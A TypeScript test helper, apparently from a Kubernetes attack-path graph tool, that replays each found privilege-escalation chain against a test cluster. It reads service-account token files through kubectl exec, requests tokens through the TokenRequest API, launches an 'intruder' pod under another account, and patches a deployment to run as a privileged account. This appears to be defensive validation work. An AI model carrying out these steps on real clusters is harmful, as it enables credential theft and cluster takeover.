/**
 * Takes a chain of the graph on the cluster that the graph was drawn of: from its beginning, with what each step gives and
 * nothing else, until the cluster is held. Only the foothold is given: the code that runs in a container, the token that leaked.
 */
import type { Chain, Hop } from '../../../src/graph/index.ts';
import { boxPod, withToken } from '../ways/objects.ts';
import { Attack, type Identity, tokenIn } from '../ways/attack.ts';
import { Refused } from '../ways/way.ts';
import type { TestCluster } from '../test-cluster.ts';

const TOKEN = '/var/run/secrets/kubernetes.io/serviceaccount/token';
/** Seconds for a pod of the attacker's own to run. A refusal comes at once, and is not waited for. */
const PATIENCE = 40;

/** What the attacker is after a step. Undefined while he is nothing but code in a container. */
type Step = (attack: Attack, hop: Hop, me: Identity | undefined) => Promise<Identity | undefined>;

const INTRUDER = 'intruder';

/** Throws `Refused` where the cluster stops him. A pod that he made goes in the end, and its token with it. */
export async function takeChain(cluster: TestCluster, chain: Chain): Promise<void> {
  try {
    await steps(cluster, chain);
  } finally {
    for (const { edge, to } of chain)
      if (edge === 'POD_CREATE_AS_SA')
        await cluster.kubectl(['delete', 'pod', INTRUDER, '-n', to.split('/')[1] ?? '', '--now', '--ignore-not-found']);
  }
}

async function steps(cluster: TestCluster, chain: Chain): Promise<void> {
  const [first] = chain;
  if (first === undefined) throw new Error('a chain without a step');
  const place = { ns: '', other: '', x: '', word: '', port: 0, tools: '' };
  const attack = new Attack({ cluster, place, from: first.from, patience: PATIENCE });
  let me: Identity | undefined = first.from.startsWith('Container/') ? undefined : await attack.me();
  for (const hop of chain) {
    const step = STEPS[hop.edge];
    if (step === undefined) throw new Error(`nobody knows here how to take ${hop.edge}`);
    me = await step(attack, hop, me);
  }
  await attack.controlsCluster(me);
}

/** `Permission/create pods in ops` is held with the identity that has it; so is what a binding gives. */
const held: Step = (_attack, _hop, me) => Promise.resolve(me);

const STEPS: Readonly<Record<string, Step>> = {
  SUBJECT_GRANT: held,
  RBAC_WILDCARD: held,
  // Commands are run when there is something to run: by the step after it.
  POD_EXEC: held,
  async POD_MOUNTED_TOKEN(attack, { from }, me) {
    const [, namespace = '', workload = '', container = ''] = from.split('/');
    const pod = await runningPod(attack, namespace, (one) => one.metadata.labels?.app === workload);
    return { token: await readToken(attack, { namespace, pod, container }, me) };
  },
  async TOKEN_REQUEST(attack, { to }, me) {
    const body = { apiVersion: 'authentication.k8s.io/v1', kind: 'TokenRequest', spec: {} };
    const [, namespace = '', account = ''] = to.split('/');
    const path = `/api/v1/namespaces/${namespace}/serviceaccounts/${account}/token`;
    return { token: tokenIn(JSON.parse(await attack.ask('POST', path, { body, as: me })) as Record<string, unknown>) };
  },
  async POD_CREATE_AS_SA(attack, { to }, me) {
    const [, namespace = '', account = ''] = to.split('/');
    const list = `/api/v1/namespaces/${namespace}/pods`;
    await attack.ask('POST', list, { body: boxPod(`${namespace}/${INTRUDER}`, withToken(account)), as: me });
    const pod = await runningPod(attack, namespace, ({ metadata }) => metadata.name === INTRUDER);
    // The pod is the attacker himself.
    return { token: await readToken(attack, { namespace, pod, container: 'c' }, undefined) };
  },
  async CONTROLLER_PATCH_AS_SA(attack, { to }, me) {
    const [, namespace = '', account = ''] = to.split('/');
    const { items } = JSON.parse(await attack.asAdministrator('GET', `/apis/apps/v1/namespaces/${namespace}/deployments`)) as {
      items: { metadata: { name: string } }[];
    };
    const victim = items.map(({ metadata }) => metadata.name).find((name) => name !== account) ?? '';
    const body = { spec: { template: { spec: { serviceAccountName: account } } } };
    await attack.ask('PATCH', `/apis/apps/v1/namespaces/${namespace}/deployments/${victim}`, { body, as: me });
    const isMine = ({ metadata, spec }: Pod): boolean => metadata.labels?.app === victim && spec.serviceAccountName === account;
    const pod = await runningPod(attack, namespace, isMine);
    return { token: await readToken(attack, { namespace, pod, container: victim }, undefined) };
  },
};

interface Pod {
  readonly metadata: { readonly name: string; readonly labels?: { readonly app?: string }; readonly deletionTimestamp?: string };
  readonly spec: { readonly serviceAccountName?: string };
  readonly status?: { readonly containerStatuses?: readonly { readonly ready: boolean }[] };
}

/** Names of pods are told to whoever looks around, which is not what a chain is about. */
function runningPod(attack: Attack, namespace: string, is: (pod: Pod) => boolean): Promise<string> {
  return attack.eventually(async () => {
    const { items } = JSON.parse(await attack.asAdministrator('GET', `/api/v1/namespaces/${namespace}/pods`)) as { items: Pod[] };
    const found = items.find(
      (pod) => is(pod) && pod.metadata.deletionTimestamp === undefined && pod.status?.containerStatuses?.[0]?.ready === true,
    );
    if (found === undefined) throw new Refused(`no such pod runs in ${namespace}`);
    return found.metadata.name;
  });
}

/** As code of the container where nobody is named, else by a command that somebody else runs in it. */
async function readToken(
  attack: Attack,
  { namespace, pod, container }: { namespace: string; pod: string; container: string },
  as: Identity | undefined,
): Promise<string> {
  const read = container === 'c' ? ['cat', TOKEN] : ['node', '-p', `require('fs').readFileSync('${TOKEN}', 'utf8')`];
  const args = ['exec', '-n', namespace, pod, '-c', container, '--', ...read];
  return (await (as === undefined ? attack.cluster.kubectl(args) : attack.kubectl(args, { as }))).trim();
}
